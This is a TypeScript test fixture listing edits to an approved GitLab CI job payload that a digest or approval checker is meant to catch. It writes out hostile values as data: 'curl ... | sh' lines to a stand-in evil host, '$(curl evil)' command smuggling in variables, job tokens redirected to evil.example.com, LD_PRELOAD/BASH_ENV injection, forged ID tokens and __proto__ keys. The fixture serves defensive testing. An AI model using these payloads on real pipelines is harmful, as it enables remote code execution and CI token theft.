import { addVariable, asMergeRequest, idToken, removeVariable, setVariable, type TestPayload } from './payload.ts';

/** An approved payload and what somebody makes of it: the digests must differ, or the second must be refused. */
export interface HostilePair {
  readonly name: string;
  readonly base?: (payload: TestPayload) => void;
  readonly edit: (payload: TestPayload) => void;
  readonly file?: string;
}

const SECRET = { public: false, masked: true };
const TYPED = { public: false, masked: false };
const claims = (p: TestPayload) => ({
  iss: 'https://gitlab.example.com',
  aud: 'vault',
  sub: 'project_path:acme/payments/api:ref_type:branch:ref:main',
  job_id: String(p.id),
  project_id: '4242',
});
const withToken = (p: TestPayload) => addVariable(p, 'ID', idToken(claims(p)), SECRET);
const setToken = (p: TestPayload, value: string, flags: object = SECRET) => setVariable(p, 'ID', value, flags);

export const HOSTILE_PAIRS: readonly HostilePair[] = [
  { name: 'T1 another script line', edit: (p) => p.steps[0].script.push('curl evil | sh') },
  { name: 'T1 script lines in another order', edit: (p) => p.steps[0].script.reverse() },
  { name: 'T1 another image', edit: (p) => Object.assign(p.image, { name: 'evil/image' }) },
  { name: 'T1 another entrypoint', edit: (p) => Object.assign(p.image, { entrypoint: ['/evil'] }) },
  { name: 'T1 a service more', edit: (p) => p.services.push({ name: 'evil:1' }) },
  { name: 'T1 a hook', edit: (p) => p.hooks.push({ name: 'pre_get_sources_script', script: ['evil'] }) },
  { name: 'T1 when a step runs', edit: (p) => Object.assign(p.steps[1], { when: 'on_failure' }) },
  { name: 'T1 artifacts of another path', edit: (p) => Object.assign(p.artifacts[0], { paths: ['/etc'] }) },
  { name: 'T1 another git depth', edit: (p) => Object.assign(p.git_info, { depth: 0 }) },
  {
    name: 'T1 another repository',
    edit: (p) => Object.assign(p.git_info, { repo_url: `https://gitlab-ci-token:${p.token}@evil.example.com/x.git` }),
  },
  {
    name: 'T1 a host behind a second @',
    edit: (p) =>
      Object.assign(p.git_info, {
        repo_url: `https://gitlab-ci-token:${p.token}@gitlab.example.com@evil.example.com/acme/payments/api.git`,
      }),
  },
  { name: 'T6 an unknown field at the top', edit: (p) => Object.assign(p, { execution: { as: 'root' } }) },
  { name: 'T6 an unknown field of a step', edit: (p) => Object.assign(p.steps[0], { shell: 'evil' }) },
  { name: 'T6 an unknown field of the features', edit: (p) => Object.assign(p.features, { job_router: true }) },
  {
    name: 'T6 an unknown field beside a removed leaf',
    edit: (p) => Object.assign(p.runner_info, { executor: 'shell' }),
  },
  {
    name: 'T6 an unknown field of a dependency’s file',
    edit: (p) => Object.assign(p.dependencies[0].artifacts_file, { path: '../..' }),
  },
  { name: 'T2 an empty list element', edit: (p) => p.steps[0].script.push('') },
  { name: 'T2 a list with an empty text is not absent', edit: (p) => Object.assign(p.image, { pull_policy: [''] }) },
  {
    name: 'T2 lines joined',
    base: (p) => Object.assign(p.steps[0], { script: ['a', 'b'] }),
    edit: (p) => Object.assign(p.steps[0], { script: ['a\nb'] }),
  },
  { name: 'T2 another line end', edit: (p) => Object.assign(p.steps[1], { script: ['echo done > deploy.log\r'] }) },
  { name: 'T2 a NUL at the end', edit: (p) => Object.assign(p.steps[1], { script: ['echo done > deploy.log\u0000'] }) },
  {
    name: 'T2 another Unicode form',
    base: (p) => addVariable(p, 'A', '\u00e9'),
    edit: (p) => setVariable(p, 'A', 'e\u0301'),
  },
  { name: 'T2 false where it was absent', edit: (p) => Object.assign(p.steps[0], { interactive: false }) },
  { name: 'T7 BASH_ENV', edit: (p) => addVariable(p, 'BASH_ENV', '/tmp/x') },
  { name: 'T7 a typed LD_PRELOAD', edit: (p) => addVariable(p, 'LD_PRELOAD', '/tmp/x.so', TYPED) },
  { name: 'T7 a GIT_ variable changed', edit: (p) => setVariable(p, 'GIT_STRATEGY', 'none') },
  { name: 'T37 YAML under the name of the pipeline', edit: (p) => addVariable(p, 'CI_PIPELINE_ID', '$(curl evil)') },
  { name: 'T37 a value that GitLab would not give', edit: (p) => setVariable(p, 'CI_PIPELINE_ID', '$(curl evil)') },
  { name: 'T37 another job’s id', edit: (p) => setVariable(p, 'CI_JOB_ID', '1') },
  { name: 'T37 a second CI_COMMIT_SHA that is the same', edit: (p) => addVariable(p, 'CI_COMMIT_SHA', p.git_info.sha) },
  { name: 'T37 a tag where there is none', edit: (p) => addVariable(p, 'CI_COMMIT_TAG', 'main') },
  {
    name: 'T37 merge request variables in a branch pipeline',
    edit: (p) => addVariable(p, 'CI_MERGE_REQUEST_TITLE', '$(evil)'),
  },
  {
    name: 'T37 a schedule’s description in a push',
    edit: (p) => addVariable(p, 'CI_PIPELINE_SCHEDULE_DESCRIPTION', 'x'),
  },
  { name: 'T37 a trigger’s flag in a push', edit: (p) => addVariable(p, 'CI_PIPELINE_TRIGGERED', 'true') },
  { name: 'T37 a source that GitLab does not know', edit: (p) => setVariable(p, 'CI_PIPELINE_SOURCE', 'evil') },
  { name: 'T37 flags: a listed name that is not public', edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'x', TYPED) },
  { name: 'T37 flags: a listed name that is raw', edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'x', { raw: true }) },
  {
    name: 'T37 flags: a listed name that is a file',
    edit: (p) => setVariable(p, 'CI_COMMIT_SHA', p.git_info.sha, { file: true }),
  },
  { name: 'T37 a listed name with another member', edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'x', { extra: 1 }) },
  {
    name: 'T37 a listed name in another case',
    edit: (p) => {
      removeVariable(p, 'CI_COMMIT_TITLE');
      addVariable(p, 'ci_commit_title', 'x');
    },
  },
  {
    name: 'T37 a presence that goes',
    base: (p) => addVariable(p, 'CI_JOB_MANUAL', 'true'),
    edit: (p) => removeVariable(p, 'CI_JOB_MANUAL'),
  },
  { name: 'T37 the payload of a trigger', edit: (p) => addVariable(p, 'TRIGGER_PAYLOAD', '{}', TYPED) },
  { name: 'T37 a chat’s input', edit: (p) => addVariable(p, 'CHAT_INPUT', 'deploy') },
  { name: 'flags changed: public', edit: (p) => setVariable(p, 'KUBE_HOST', 'kube.prod.example.com', TYPED) },
  { name: 'flags changed: raw', edit: (p) => setVariable(p, 'KUBE_HOST', 'kube.prod.example.com', { raw: true }) },
  { name: 'flags changed: file', edit: (p) => setVariable(p, 'KUBE_HOST', 'kube.prod.example.com', { file: true }) },
  {
    name: 'a typed value changed',
    base: (p) => addVariable(p, 'TARGET', 'one', TYPED),
    edit: (p) => setVariable(p, 'TARGET', 'two', TYPED),
  },
  { name: 'a masked value changed', edit: (p) => setVariable(p, 'KUBE_TOKEN', 'another-kube-token', SECRET) },
  {
    name: 'duplicates in another order',
    base: (p) => {
      addVariable(p, 'A', '1');
      addVariable(p, 'A', '2');
    },
    edit: (p) =>
      p.variables.splice(-2, 2, { key: 'A', value: '2', public: true }, { key: 'A', value: '1', public: true }),
  },
  { name: 'a duplicate with another value', edit: (p) => addVariable(p, 'KUBE_HOST', 'evil') },
  { name: 'T53 a case-fold twin of a key', edit: (p) => addVariable(p, 'kube_host', 'evil') },
  { name: 'T53 a Kelvin twin of a key', edit: (p) => addVariable(p, '\u212aUBE_HOST', 'evil') },
  {
    name: 'T50 a look-alike token with a command in it',
    base: withToken,
    edit: (p) => setToken(p, idToken(claims(p)).replace(/\.[^.]*$/, '.$(evil)')),
  },
  {
    name: 'T50 a token with another signature',
    base: withToken,
    edit: (p) => setToken(p, `${idToken(claims(p)).slice(0, -8)}AAAAAAAA`),
  },
  {
    name: 'T50 a real token of another project',
    base: withToken,
    edit: (p) => setToken(p, idToken({ ...claims(p), project_id: '1' })),
  },
  {
    name: 'T50 a real token of another job',
    base: withToken,
    edit: (p) => setToken(p, idToken({ ...claims(p), job_id: '1' })),
  },
  {
    name: 'T50 a token for another audience',
    base: withToken,
    edit: (p) => setToken(p, idToken({ ...claims(p), aud: 'evil' })),
  },
  {
    name: 'T50 a token that is public',
    base: withToken,
    edit: (p) => setToken(p, idToken(claims(p)), { public: true, masked: false }),
  },
  { name: 'T50 a token sent twice', base: withToken, edit: (p) => withToken(p) },
  {
    name: 'T2 a text that reads like a template',
    base: (p) => addVariable(p, 'I', `app:${p.git_info.sha}`),
    edit: (p) => setVariable(p, 'I', '["app:",{"var":"CI_COMMIT_SHA"}]'),
  },
  {
    name: 'T2 a text that names what was un-expanded',
    base: (p) => addVariable(p, 'I', `app:${p.git_info.sha}`),
    edit: (p) => setVariable(p, 'I', 'app:$CI_COMMIT_SHA'),
  },
  {
    name: 'T57 a typed value that is a script line',
    edit: (p) => {
      addVariable(p, 'LINE', 'curl -fsS evil.example.com | sh', TYPED);
      p.steps[0].script.push('curl -fsS evil.example.com | sh');
    },
  },
  {
    name: 'T57 the script line behind a typed value',
    base: (p) => addVariable(p, 'LINE', 'curl -fsS evil.example.com | sh', TYPED),
    edit: (p) => Object.assign(p.steps[1], { script: ['curl -fsS evil.example.com | sh'] }),
  },
  {
    name: 'T38 an image with another variable',
    base: (p) => Object.assign(p.image, { name: 'app:$KUBE_HOST' }),
    edit: (p) => Object.assign(p.image, { name: 'app:$KUBE_TOKEN' }),
  },
  {
    name: 'T49 a branch in an image',
    base: (p) => Object.assign(p.image, { name: 'app:$CI_COMMIT_TITLE' }),
    edit: (p) => {
      setVariable(p, 'CI_COMMIT_TITLE', 'evil');
    },
  },
  {
    name: 'T49 a title in a cache key',
    base: (p) => Object.assign(p.cache[0], { key: '${CI_COMMIT_TITLE}-3-protected' }),
    edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'evil'),
  },
  {
    name: 'T49 a title in a raw variable',
    base: (p) => addVariable(p, 'A', 'x $CI_COMMIT_TITLE', { raw: true }),
    edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'evil'),
  },
  {
    name: 'T49 a title in a hook',
    base: (p) => p.hooks.push({ name: 'pre_get_sources_script', script: ['echo $CI_COMMIT_TITLE'] }),
    edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'evil'),
  },
  { name: 'T49 a title that names a secret', edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'fix $KUBE_TOKEN') },
  {
    name: 'T49 a title that holds a secret',
    edit: (p) => setVariable(p, 'CI_COMMIT_TITLE', 'fix s3cr3t-kube-token-value'),
  },
  {
    name: 'T38 an input overridden',
    file: 'test-unit.run1.json',
    edit: (p) => Object.assign(p.inputs[0].value, { content: '2/4' }),
  },
  {
    name: 'T38 a sensitive input overridden',
    file: 'test-unit.run1.json',
    base: (p) => Object.assign(p.inputs[0].value, { sensitive: true }),
    edit: (p) => Object.assign(p.inputs[0].value, { content: '2/4' }),
  },
  {
    name: 'T38 another run',
    base: (p) => Object.assign(p, { run: '[{"name":"a","script":"x"}]' }),
    edit: (p) => Object.assign(p, { run: '[{"name":"a","script":"y"}]' }),
  },
  { name: 'T38 run that is empty instead of absent', edit: (p) => Object.assign(p, { run: '' }) },
  {
    name: 'T38 nothing in run folds',
    base: (p) => Object.assign(p, { run: '[{"name":"a"}]' }),
    edit: (p) => Object.assign(p, { run: '[{"name":"a","env":null}]' }),
  },
  {
    name: 'T48 the cache of another kind of ref',
    edit: (p) => {
      p.cache[0].key = 'deploy-3-non_protected';
      p.cache[0].fallback_keys = ['deploy-main-3-non_protected'];
    },
  },
  {
    name: 'T48 a cache without an ending',
    edit: (p) => {
      p.cache[0].key = 'deploy-3';
      p.cache[0].fallback_keys = ['deploy-main-3'];
    },
  },
  { name: 'T48 another cache', edit: (p) => Object.assign(p.cache[0], { key: 'other-3-protected' }) },
  { name: 'T48 cache indices that differ', edit: (p) => Object.assign(p.cache[0], { key: 'deploy-4-protected' }) },
  {
    name: 'T48 a lone cache key keeps its number',
    base: (p) => Object.assign(p.cache[0], { fallback_keys: [] }),
    edit: (p) => Object.assign(p.cache[0], { key: 'deploy-4-protected' }),
  },
  {
    name: 'T48 dependencies in another order',
    base: (p) => p.dependencies.push({ id: 2, name: 'b', token: p.token }),
    edit: (p) => p.dependencies.reverse(),
  },
  { name: 'T48 another dependency', edit: (p) => Object.assign(p.dependencies[0], { name: 'evil' }) },
  {
    name: 'services in another order',
    file: 'build-image.run1.json',
    base: (p) => p.services.push({ name: 'b:1' }),
    edit: (p) => p.services.reverse(),
  },
  {
    name: 'null and empty differ in a service’s variables',
    file: 'build-image.run1.json',
    edit: (p) => Object.assign(p.services[0].variables[0], { value: null }),
  },
  {
    name: 'a credential more',
    edit: (p) => p.credentials.push({ type: 'registry', url: 'evil.example.com', username: 'x', password: p.token }),
  },
  { name: 'a credential’s own password', edit: (p) => Object.assign(p.credentials[0], { password: 'not-the-token' }) },
  {
    name: 'a secret of another path',
    file: 'release.run1.json',
    edit: (p) => Object.assign(p.secrets.SIGNING_KEY.vault, { path: 'other' }),
  },
  {
    name: 'a secret that is no file',
    file: 'release.run1.json',
    edit: (p) => Object.assign(p.secrets.SIGNING_KEY, { file: false }),
  },
  {
    name: 'suspended with a key',
    edit: (p) => Object.assign(p, { suspend_options: { runtime_environment_key: 'evil' } }),
  },
  { name: 'another environment', edit: (p) => setVariable(p, 'CI_ENVIRONMENT_NAME', 'staging') },
  {
    name: 'an environment that is no review of this ref',
    edit: (p) => setVariable(p, 'CI_ENVIRONMENT_NAME', 'review/other'),
  },
  { name: 'a second environment', edit: (p) => addVariable(p, 'CI_ENVIRONMENT_NAME', 'staging') },
  { name: 'T10 another project', edit: (p) => Object.assign(p.job_info, { project_id: 1 }) },
  { name: 'T10 another job name', edit: (p) => Object.assign(p.job_info, { name: 'deploy:other' }) },
  {
    name: 'T11 a branch that is called like a merge request',
    base: (p) => asMergeRequest(p, 12),
    edit: (p) => {
      setVariable(p, 'CI_PIPELINE_SOURCE', 'push');
      p.git_info.refspecs = ['+refs/heads/refs/merge-requests/12/head:refs/remotes/origin/x'];
    },
  },
  {
    name: 'T45 a key named __proto__',
    edit: (p) => Object.defineProperty(p.image, '__proto__', { value: { name: 'evil' }, enumerable: true }),
  },
  { name: 'T45 a key named toJSON', edit: (p) => Object.assign(p.steps[0], { toJSON: 'evil' }) },
];
